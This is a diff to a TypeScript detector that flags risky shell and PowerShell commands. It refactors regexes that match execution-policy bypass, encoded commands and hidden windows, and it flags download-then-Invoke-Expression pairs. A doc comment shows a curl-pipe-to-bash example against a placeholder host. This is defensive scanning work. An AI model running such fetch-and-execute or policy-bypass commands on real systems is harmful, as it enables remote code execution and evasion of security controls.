@@ -106,9 +106,14 @@ export function unwrap(words: readonly string[]): { inner: string; background: b
 
 const quote = (w: string): string => (/^[\w@%+=:,./\\-]+$/.test(w) ? w : `"${w.replace(/(["\\$`])/g, '\\$1')}"`)
 
+/** PowerShell started past its script policy, with an encoded command, or with a hidden window. */
+const POLICY_BYPASS = /-(?:ExecutionPolicy|ep|exec)\s+Bypass|-(?:EncodedCommand|enc|e)\s+[A-Za-z0-9+/=]{8,}|-(?:WindowStyle|w)\s+Hidden/i
+
+const newWalk = (): Walk => ({ commands: [], signals: [], downloaded: new Set(), seen: new Set(), pipelines: 0 })
+
 function powershellSignals(walk: Walk, words: readonly string[], text: string): void {
   const joined = words.join(' ')
-  if (/-(?:ExecutionPolicy|ep|exec)\s+Bypass|-(?:EncodedCommand|enc|e)\s+[A-Za-z0-9+/=]{8,}|-(?:WindowStyle|w)\s+Hidden/i.test(joined)) signal(walk, 'policy-bypass', text)
+  if (POLICY_BYPASS.test(joined)) signal(walk, 'policy-bypass', text)
   powershellCode(walk, joined, text)
 }
 
@@ -215,7 +220,7 @@ function visitText(walk: Walk, text: string, background: boolean, depth: number,
  * shell parser cannot take whole (Windows batch files).
  */
 export function analyseShellLines(lines: readonly string[]): ShellLineFacts & { readonly signalLines: readonly number[] } {
-  const walk: Walk = { commands: [], signals: [], downloaded: new Set(), seen: new Set(), pipelines: 0 }
+  const walk = newWalk()
   const signalLines: number[] = []
   for (let i = 0; i < lines.length && walk.commands.length < MAX_COMMANDS; i++) {
     try {
@@ -230,9 +235,10 @@ export function analyseShellLines(lines: readonly string[]): ShellLineFacts & { 
 
 /** PowerShell code that fetches and runs code, anywhere in a script. */
 export function powershellScriptSignals(code: string): ShellSignal[] {
-  const walk: Walk = { commands: [], signals: [], downloaded: new Set(), seen: new Set(), pipelines: 0 }
+  const walk = newWalk()
   const text = code.length > MAX_TEXT ? code.slice(0, MAX_TEXT) : code
-  if (/-(?:ExecutionPolicy|ep|exec)\s+Bypass|-(?:EncodedCommand|enc)\s+[A-Za-z0-9+/=]{8,}|-(?:WindowStyle|w)\s+Hidden/i.test(text)) signal(walk, 'policy-bypass', text.match(/^.*(?:Bypass|EncodedCommand|-enc|Hidden).*$/im)?.[0] ?? '')
+  const bypass = text.split('\n').find((line) => POLICY_BYPASS.test(line))
+  if (bypass !== undefined) signal(walk, 'policy-bypass', bypass.trim())
   // in a script the download and the evaluation are often two statements apart: `$s = iwr …` then `iex $s`
   const evaluates = /^.*\b(?:IEX|Invoke-Expression)\b.*$/im.exec(text)
   if (evaluates && /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadData)\b/i.test(text)) signal(walk, 'remote-pipe', evaluates[0].trim())
@@ -246,7 +252,7 @@ export function powershellScriptSignals(code: string): ShellSignal[] {
  * @example analyseShellLine('curl -s https://x.invalid/i.sh | bash').signals[0]?.kind // 'remote-pipe'
  */
 export function analyseShellLine(text: string): ShellLineFacts {
-  const walk: Walk = { commands: [], signals: [], downloaded: new Set(), seen: new Set(), pipelines: 0 }
+  const walk = newWalk()
   try {
     visitText(walk, text, false, 0)
   } catch {
